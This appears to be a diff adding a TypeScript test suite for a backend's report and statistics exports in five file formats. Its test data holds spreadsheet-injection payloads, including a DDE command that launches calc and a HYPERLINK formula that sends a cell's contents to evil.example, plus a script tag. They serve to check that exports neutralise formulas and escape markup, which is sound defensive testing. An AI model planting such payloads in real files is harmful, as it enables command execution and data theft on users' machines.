@@ -1,0 +1,266 @@
+import { get } from 'node:http';
+import { setTimeout } from 'node:timers/promises';
+import type { AddressInfo } from 'node:net';
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { type KyselyPlugin, sql } from 'kysely';
+import { type Cell, type ColumnKind, fileOutputs, type TableRows } from '../../contract/figures.ts';
+import { isoLanguage, languages } from '../../contract/languages.ts';
+import { randomId } from '../../server/randomId.ts';
+import { databaseKinds, startBackend, type SignedIn, type TestBackend } from '../support/backend.ts';
+import { openTable } from '../support/openTables.ts';
+
+const letters = 'ąčęėįšųūž ĽŠČŤŽýáíéô ðþæö ÕÄÖÜ ñ ãõç';
+
+/** What spreadsheets take for a calculation, and what else has no business in a cell. */
+const notes = [
+  '=1+1',
+  '+354 555 1234',
+  '-2+3',
+  '@SUM(A1:A9)',
+  "\t=cmd|' /C calc'!A0",
+  '\r=1',
+  '＝1+1',
+  '=HYPERLINK("https://evil.example/?"&A1,"here")',
+  '<script>alert(1)</script> & <b>"bold"</b>',
+  'a, comma; a "quote"\nand a line',
+  'bell\u0007 and\u000b control',
+  `A long note: ${'þetta er löng setning um ekkert sérstakt '.repeat(12)}`,
+  'Löngorðiðsemhvergierbilíogstendurútúrdálkinumogáframogáframogáfram',
+  letters,
+  null,
+];
+
+/** How a cell is to be read, written out again here: what the files are held to must not be made from them. */
+function shown(kind: ColumnKind, cell: Cell): string {
+  if (cell === null) return '';
+  if (kind === 'day') return String(cell).replace(/^(\d+)-(\d+)-(\d+)$/, '$3-$2-$1');
+  if (typeof cell === 'string') return cell;
+  if (kind === 'seconds') return `${Math.floor(cell / 60)}:${cell % 60 < 10 ? '0' : ''}${cell % 60}`;
+  if (kind === 'decimal') return cell.toFixed(2);
+  return kind === 'percent' ? cell.toFixed(1) : `${cell}`;
+}
+
+/** Without spaces, and without the one sign that the printed letters do not have. */
+const squeezed = (rows: string[][]) => rows.map((row) => row.map((cell) => cell.replace(/[\s\0＝]/g, '')));
+const startsFormula = /^[=+\-@＝]/;
+
+describe('the five files', () => {
+  let backend: TestBackend;
+  let app: Awaited<ReturnType<TestBackend['app']>>;
+  let owner: SignedIn;
+  beforeAll(async () => {
+    backend = await startBackend('embedded');
+    app = await backend.app({ flags: { transcription: true } });
+    owner = await backend.signedIn({ language: 'sk' });
+    const { db } = backend.database;
+    const interpreter = await backend.addUser({ role: 'interpreter', first_name: letters, last_name: 'Þórðarson' });
+    const customer = await backend.addUser({ role: 'deaf', first_name: '=2+5', last_name: 'O’Neill & "Co"' });
+    for (const [index, note] of notes.entries()) {
+      const id = randomId();
+      const created = new Date(Date.parse('2024-03-30T22:30:00Z') + index * 3_600_000);
+      const after = (seconds: number) => new Date(created.getTime() + seconds * 1000);
+      const isTaken = index % 4 !== 3;
+      await db
+        .insertInto('interpretations')
+        .values({
+          id,
+          channel: index % 3 === 0 ? 'live' : 'online',
+          location_type: index % 3 === 0 ? 'site' : 'remote',
+          session_mode: index % 2 === 0 ? 'VRI' : 'VRS',
+          service_kind: index % 5 === 0 ? 'both' : 'interpretation',
+          queue_type: 'social',
+          category: '-Heilsa',
+          customer_id: customer.id,
+          interpreter_id: isTaken ? interpreter.id : null,
+          created,
+          started: isTaken ? after(5 + index) : null,
+          ended: isTaken ? after(3680 + 7 * index) : null,
+          note,
+        })
+        .execute();
+      if (index % 2 === 0)
+        await db
+          .insertInto('feedback')
+          .values({ id: randomId(), interpretation_id: id, rating: 4, waiting_seconds: 5, created: after(5000) })
+          .execute();
+    }
+  }, 60_000);
+  afterAll(() => backend.close());
+
+  const days = 'from_day=2024-03-30&to_day=2024-03-31';
+  const fetchFile = (path: string, language: string) =>
+    app.inject({ url: path, headers: { ...owner.headers, 'accept-language': language } });
+
+  it.each(languages)('hold the cells that `rows` answers, in %s', async (language) => {
+    const locale = isoLanguage(language);
+    const rows: TableRows = (await fetchFile(`/report/?${days}&output=rows`, locale)).json();
+    expect(rows.rows).toHaveLength(notes.length);
+    const heading = rows.columns.map(({ label }) => label);
+    const expected = rows.rows.map((row) => row.map((cell, index) => shown(rows.columns[index]?.kind ?? 'text', cell)));
+    expect(expected.flat().join('\n')).toContain(letters);
+    for (const output of fileOutputs) {
+      const answer = await fetchFile(`/report/?${days}&output=${output}`, locale);
+      expect([output, answer.statusCode]).toEqual([output, 200]);
+      const { table, words } = await openTable(output, answer.rawPayload, rows.columns);
+      const safe = (cell: string) => (output === 'csv' && startsFormula.test(cell) ? `'${cell}` : cell);
+      if (output === 'pdf') expect(squeezed(table)).toEqual(squeezed(expected));
+      else expect([output, table]).toEqual([output, [heading, ...expected.map((row) => row.map(safe))]]);
+      for (const { label } of rows.totals) expect([output, words]).toEqual([output, expect.stringContaining(label)]);
+      if (output === 'csv') continue;
+      const around = [
+        rows.title,
+        'Atlantic/Reykjavik',
+        '30-03-2024 – 31-03-2024',
+        ...rows.facts.map(({ label }) => label),
+      ];
+      for (const text of around) expect([output, words]).toEqual([output, expect.stringContaining(text)]);
+    }
+  });
+
+  it('hold the statistics as well', async () => {
+    const query = `${days}&interval=days`;
+    const rows: TableRows = (await fetchFile(`/statistics/?${query}`, 'en')).json();
+    const expected = rows.rows.map((row) => row.map((cell, index) => shown(rows.columns[index]?.kind ?? 'text', cell)));
+    expect(expected.map(([from, , requests]) => [from, requests])).toEqual([
+      ['30-03-2024', '2'],
+      ['31-03-2024', `${notes.length - 2}`],
+    ]);
+    for (const output of fileOutputs) {
+      const answer = await fetchFile(`/statistics/?${query}&output=${output}`, 'en');
+      const { table } = await openTable(output, answer.rawPayload, rows.columns);
+      if (output === 'pdf') expect(squeezed(table)).toEqual(squeezed(expected));
+      else expect(table.slice(1)).toEqual(expected);
+    }
+  });
+
+  it.each([
+    ['csv', 'text/csv; charset=utf-8'],
+    ['docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'],
+    ['html', 'text/html; charset=utf-8'],
+    ['pdf', 'application/pdf'],
+    ['xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'],
+  ])('are saved by their names: %s', async (output, type) => {
+    for (const name of ['statistics', 'report']) {
+      const { headers } = await fetchFile(`/${name}/?${days}&output=${output}`, 'en');
+      expect(headers).toMatchObject({
+        'content-type': type,
+        'content-disposition': `attachment; filename=${name}.${output}`,
+        'content-security-policy': expect.stringContaining('sandbox'),
+      });
+    }
+  });
+
+  it('are in the language that the call asks for, else the person’s, else the deployment’s', async () => {
+    const title = async (headers: Record<string, string>) =>
+      (await app.inject({ url: `/report/?${days}`, headers })).json().title;
+    expect(await title({ ...owner.headers, 'accept-language': 'fr, et;q=0.9, en;q=0.4' })).toBe('Aruanne');
+    expect(await title({ ...owner.headers, 'accept-language': 'pt-BR' })).toBe('Relatório');
+    expect(await title({ ...owner.headers, 'accept-language': 'fr' })).toBe('Výkaz');
+    expect(await title(owner.headers)).toBe('Výkaz');
+    expect(await title((await backend.signedIn()).headers)).toBe('Skýrsla');
+  });
+
+  it('say which filters were set, by name', async () => {
+    const { facts }: TableRows = (
+      await fetchFile(
+        `/report/?${days}&session_channel=live&session_mode[]=VRI&session_mode[]=site&user=${owner.id}`,
+        'en',
+      )
+    ).json();
+    expect(Object.fromEntries(facts.map(({ label, value }) => [label, value]))).toMatchObject({
+      Period: '30-03-2024 – 31-03-2024',
+      'Time zone': 'Atlantic/Reykjavik',
+      Channel: 'Live',
+      Mode: 'VRI, On site',
+      Customer: 'Sigríður Jónsdóttir',
+      'Service level': 'answered within 30 seconds, of all requests answered or abandoned',
+      Created: '01-05-2024 10:00',
+    });
+  });
+});
+
+describe.each(databaseKinds)('a long report, on the %s database', (kind) => {
+  const count = 12_000;
+  let backend: TestBackend;
+  let owner: SignedIn;
+  beforeAll(async () => {
+    backend = await startBackend(kind);
+    owner = await backend.signedIn();
+    // Microseconds, and several at each moment: a cursor that rounds would lose some or give them twice.
+    await sql`insert into interpretations (id, channel, session_mode, location_type, queue_type, category, note, created)
+      select lpad(to_hex(number), 24, '0'), 'online', 'VRI', 'remote', 'social', 'Heilsa', repeat('athugasemd ', 60),
+        timestamptz '2024-04-01 08:00:00.000001Z' + (number / 3) * interval '100.000007 seconds'
+      from generate_series(1, ${sql.lit(count)}) number`.execute(backend.database.db);
+  }, 60_000);
+  afterAll(() => backend.close());
+
+  const days = 'from_day=2024-04-01&to_day=2024-04-30';
+  const listening = async () => {
+    let queries = 0;
+    const counter: KyselyPlugin = {
+      transformQuery: ({ node }) => {
+        queries += 1;
+        return node;
+      },
+      transformResult: async ({ result }) => result,
+    };
+    const { database } = backend;
+    const app = await backend.app({ database: { ...database, db: database.db.withPlugin(counter) } });
+    await app.listen({ port: 0, host: '127.0.0.1' });
+    const { port } = app.server.address() as AddressInfo;
+    return { app, origin: `http://127.0.0.1:${port}`, queries: () => queries };
+  };
+
+  it('has each interpretation once, in order', async () => {
+    const app = await backend.app();
+    const { results, totals } = (
+      await app.inject({ url: `/report/?output=objects&${days}`, headers: owner.headers })
+    ).json();
+    const ids = results.map(({ id }: { id: string }) => id);
+    expect([ids.length, totals.requests]).toEqual([count, count]);
+    expect(ids).toEqual(ids.toSorted());
+    expect(new Set(ids).size).toBe(count);
+  });
+
+  it.each(['csv', 'xlsx', 'pdf'])('is no longer made when nobody reads it: %s', async (output) => {
+    const { app, origin, queries } = await listening();
+    const before = queries();
+    const call = get(`${origin}/report/?output=${output}&${days}`, { headers: owner.headers });
+    await new Promise<void>((resolve, reject) => {
+      call.on('error', reject);
+      call.on('response', (response) => {
+        response.once('readable', () => {
+          // Others get in between while it is under way.
+          app
+            .inject({ url: '/overview/', headers: owner.headers })
+            .then(({ statusCode }) => {
+              expect(statusCode).toBe(200);
+              call.off('error', reject).on('error', () => undefined);
+              call.destroy();
+              resolve();
+            })
+            .catch(reject);
+        });
+      });
+    });
+    let [last, now] = [-1, queries()];
+    while (last !== now) {
+      await setTimeout(300);
+      [last, now] = [now, queries()];
+    }
+    // All of it would be 24 batches.
+    expect(now - before).toBeLessThan(24);
+    expect((await app.inject({ url: '/livez/' })).statusCode).toBe(200);
+  });
+
+  it('is refused as a file that cannot hold it', async () => {
+    const app = await backend.app();
+    const answer = await app.inject({ url: `/report/?output=docx&${days}`, headers: owner.headers });
+    expect(answer.json()).toMatchObject({
+      status: 422,
+      code: 'export_too_large',
+      values: { rows: '12000', limit: '10000' },
+    });
+    expect(answer.headers['content-disposition']).toBeUndefined();
+  });
+});
